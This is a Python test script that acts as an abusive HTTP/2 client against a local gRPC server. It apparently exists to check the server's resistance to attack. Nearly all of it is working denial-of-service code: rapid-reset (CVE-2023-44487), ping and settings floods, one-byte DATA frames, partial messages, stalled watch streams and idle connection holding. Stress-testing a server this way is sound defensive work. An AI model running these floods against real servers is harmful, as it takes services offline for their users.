"""An abusive HTTP/2 client, as a process of its own (so its CPU is not the measured client's):

    python tests/h2_attacker.py PORT ATTACK SECONDS [CONNECTIONS]

ATTACK is one of:

- ``rapid-reset``: HEADERS + RST_STREAM for Ping as fast as it can, on CONNECTIONS connections (CVE-2023-44487);
- ``ping-flood``: PING frames as fast as it can, never reading what the server sends;
- ``settings-flood``: SETTINGS frames, likewise;
- ``tiny-frames``: request messages of 64 KiB in 1-byte DATA frames;
- ``partial-messages``: on each connection, streams each sending a 4 MiB message less 4 bytes;
- ``stalled-watchers``: CONNECTIONS connections, each with 90 watch streams whose window never opens,
  while 1 MB values are written to what they watch (a stream the server ends is opened again);
- ``silent``: CONNECTIONS TCP connections that send nothing at all;
- ``preface-only``: CONNECTIONS connections that send the HTTP/2 preface and SETTINGS, then nothing.

A connection the server closes is opened again, until SECONDS have passed. Prints "attacking" once
the first connection is up, and at the end one JSON line of counts: connections opened, connections the
server closed, GOAWAYs by error code, streams opened, frames sent.
"""

from __future__ import annotations

import json
import os
import socket
import sys
import time
from collections import Counter

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings

HOST = "127.0.0.1"
PING = "/unified_bridge.UnifiedBridge/Ping"
PING_REQUEST = b"\x00\x00\x00\x00\x03\x0a\x01x"  # a PingRequest(message="x") with its gRPC prefix

counts: Counter[str] = Counter()


def headers(port: int, path: str = PING) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", f"{HOST}:{port}"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


class Connection:
    def __init__(self, port: int, *, read: bool = True, window: int = 2**31 - 1) -> None:
        self.port = port
        self.sock = socket.create_connection((HOST, port))
        self.sock.setblocking(False)
        self.read = read
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.h2.initiate_connection()
        self.h2.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window})
        self.closed = False
        counts["connections opened"] += 1
        self.send()

    def send(self) -> None:
        data = self.h2.data_to_send()
        try:
            while data:
                try:
                    sent = self.sock.send(data)
                except BlockingIOError:
                    self.drain()
                    time.sleep(0.0005)
                    if self.closed:
                        return
                    continue
                data = data[sent:]
        except OSError:
            self.close_seen()

    def drain(self) -> None:
        """Read what the server sent (unless this client never reads)."""
        if not self.read or self.closed:
            return
        while True:
            try:
                chunk = self.sock.recv(1 << 16)
            except BlockingIOError:
                return
            except OSError:
                self.close_seen()
                return
            if not chunk:
                self.close_seen()
                return
            try:
                events = self.h2.receive_data(chunk)
            except h2.exceptions.ProtocolError:
                self.close_seen()
                return
            for event in events:
                if isinstance(event, h2.events.StreamReset | h2.events.StreamEnded):
                    counts["streams ended by the server"] += 1
                if isinstance(event, h2.events.ConnectionTerminated):
                    code = h2.errors.ErrorCodes(event.error_code).name
                    counts[f"GOAWAY {code}"] += 1

    def close_seen(self) -> None:
        if not self.closed:
            self.closed = True
            counts["connections closed by the server"] += 1
            self.sock.close()


def rapid_reset(port: int, deadline: float, connections: int) -> None:
    pool = [Connection(port) for _ in range(connections)]
    print("attacking", flush=True)
    while time.monotonic() < deadline:
        for index, connection in enumerate(pool):
            if connection.closed:
                pool[index] = connection = Connection(port)
            for _ in range(50):
                try:
                    stream_id = connection.h2.get_next_available_stream_id()
                    connection.h2.send_headers(stream_id, headers(port))
                    connection.h2.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
                except h2.exceptions.ProtocolError:
                    connection.close_seen()
                    break
                counts["streams opened and reset"] += 1
            connection.send()
            connection.drain()


def flood(port: int, deadline: float, kind: str) -> None:
    connection = Connection(port, read=False)
    print("attacking", flush=True)
    payload = 0
    while time.monotonic() < deadline:
        if connection.closed:
            connection = Connection(port, read=False)
        for _ in range(100):
            payload += 1
            try:
                if kind == "ping-flood":
                    connection.h2.ping(payload.to_bytes(8, "big"))
                else:
                    connection.h2.update_settings({h2.settings.SettingCodes.MAX_HEADER_LIST_SIZE: payload})
            except h2.exceptions.ProtocolError:
                connection.close_seen()
                break
            counts["frames sent"] += 1
        connection.send()
        if connection.closed is False:
            try:  # notice a close without reading: a zero-byte peek
                if connection.sock.recv(1, socket.MSG_PEEK) == b"":
                    connection.close_seen()
            except BlockingIOError:
                pass
            except OSError:
                connection.close_seen()


def tiny_frames(port: int, deadline: float) -> None:
    print("attacking", flush=True)
    message = b"\x00" + (65536).to_bytes(4, "big") + b"\x0a\x80\x80\x04" + b"x" * 65532
    connection = Connection(port)
    while time.monotonic() < deadline:
        if connection.closed:
            connection = Connection(port)
        try:
            stream_id = connection.h2.get_next_available_stream_id()
            connection.h2.send_headers(stream_id, headers(port))
            for index in range(0, len(message), 1):
                connection.h2.send_data(stream_id, message[index : index + 1])
                if index % 500 == 0:
                    connection.send()
                    connection.drain()
                    if connection.closed:
                        break
                counts["frames sent"] += 1
        except (h2.exceptions.ProtocolError, h2.exceptions.FlowControlError):
            connection.close_seen()
        connection.send()
        connection.drain()


def partial_messages(port: int, deadline: float, connections: int) -> None:
    body = b"\x00" + (4 * 2**20).to_bytes(4, "big") + b"\x0a" + b"y" * (4 * 2**20 - 5)
    pool = [Connection(port) for _ in range(connections)]
    print("attacking", flush=True)
    while time.monotonic() < deadline:
        for index, connection in enumerate(pool):
            if connection.closed:
                pool[index] = connection = Connection(port)
            try:
                stream_id = connection.h2.get_next_available_stream_id()
                connection.h2.send_headers(stream_id, headers(port))
                window = connection.h2.local_flow_control_window(stream_id)
                sent = 0
                while sent < len(body) - 4 and window > 0:
                    size = min(connection.h2.max_outbound_frame_size, window, len(body) - 4 - sent)
                    connection.h2.send_data(stream_id, body[sent : sent + size])
                    sent += size
                    window = connection.h2.local_flow_control_window(stream_id)
                counts["streams opened"] += 1
            except (h2.exceptions.ProtocolError, h2.exceptions.FlowControlError):
                pass
            connection.send()
            connection.drain()
        time.sleep(0.01)


def _message(message: object) -> bytes:
    data = bytes(message)  # type: ignore[call-overload]
    return b"\x00" + len(data).to_bytes(4, "big") + data


def stalled_watchers(port: int, deadline: float, connections: int) -> None:
    import grpc  # the writer is a well-behaved stock client

    from trio_bridge.proto import unified_bridge as pb
    from trio_bridge.proto.google.protobuf import Any as PbAny
    from trio_bridge.proto.google.protobuf import StringValue

    service = "/unified_bridge.UnifiedBridge/"
    channel = grpc.insecure_channel(f"{HOST}:{port}")

    def call(method: str, message: object) -> None:
        channel.unary_unary(service + method)(bytes(message), timeout=30)  # type: ignore[call-overload]

    session = f"stall-{port}-{os.getpid()}"
    call("CreateSession", pb.CreateSessionRequest(session_id=session))
    call(
        "RegisterVariable",
        pb.RegisterVariableRequest(
            session_id=session,
            name="big",
            type=pb.VariableType.STRING,
            initial_value=PbAny.pack(StringValue()),
        ),
    )
    request = _message(pb.WatchVariablesRequest(session_id=session, variable_identifiers=["big"]))
    pool = []
    for _ in range(connections):
        connection = Connection(port, window=0)
        for _ in range(90):
            stream_id = connection.h2.get_next_available_stream_id()
            connection.h2.send_headers(stream_id, headers(port, service + "WatchVariables"))
            connection.h2.send_data(stream_id, request, end_stream=True)
            counts["streams opened"] += 1
        connection.send()
        pool.append(connection)
    print("attacking", flush=True)
    value = 0
    while time.monotonic() < deadline:
        value += 1
        big = PbAny.pack(StringValue(value=f"{value}" + "v" * (2**20 - 100)))
        call("SetVariable", pb.SetVariableRequest(session_id=session, variable_identifier="big", value=big))
        counts["values written"] += 1
        for connection in pool:  # reopen as many streams as the server ended (they fell behind)
            connection.read = True
            ended_before = counts["streams ended by the server"]
            connection.drain()
            if connection.closed:
                continue
            for _ in range(counts["streams ended by the server"] - ended_before):
                try:
                    stream_id = connection.h2.get_next_available_stream_id()
                    connection.h2.send_headers(stream_id, headers(port, service + "WatchVariables"))
                    connection.h2.send_data(stream_id, request, end_stream=True)
                    counts["streams reopened"] += 1
                except h2.exceptions.ProtocolError:
                    break
            connection.send()
        time.sleep(0.05)


def hold(port: int, deadline: float, connections: int, preface: bool) -> None:
    held: list[socket.socket | Connection] = []
    for _ in range(connections):
        try:
            if preface:
                held.append(Connection(port, read=False))
            else:
                held.append(socket.create_connection((HOST, port)))
                counts["connections opened"] += 1
        except OSError:
            counts["connections refused"] += 1
    print("attacking", flush=True)
    while time.monotonic() < deadline:
        time.sleep(0.1)
    closed = 0
    for item in held:
        sock = item.sock if isinstance(item, Connection) else item
        sock.setblocking(False)
        try:
            while sock.recv(1 << 16):  # what the server sent (SETTINGS, GOAWAY), then its end
                pass
            closed += 1
        except BlockingIOError:
            pass  # open still
        except OSError:
            closed += 1
        sock.close()
    counts["connections closed by the server"] += closed


def main(port: int, attack: str, seconds: float, connections: int) -> None:
    deadline = time.monotonic() + seconds
    if attack == "rapid-reset":
        rapid_reset(port, deadline, connections)
    elif attack in ("ping-flood", "settings-flood"):
        flood(port, deadline, attack)
    elif attack == "tiny-frames":
        tiny_frames(port, deadline)
    elif attack == "partial-messages":
        partial_messages(port, deadline, connections)
    elif attack == "stalled-watchers":
        stalled_watchers(port, deadline, connections)
    elif attack in ("silent", "preface-only"):
        hold(port, deadline, connections, preface=attack == "preface-only")
    else:
        raise SystemExit(f"unknown attack {attack!r}")
    print(json.dumps(dict(counts)), flush=True)


if __name__ == "__main__":
    port, attack, seconds = int(sys.argv[1]), sys.argv[2], float(sys.argv[3])
    main(port, attack, seconds, int(sys.argv[4]) if len(sys.argv) > 4 else 1)
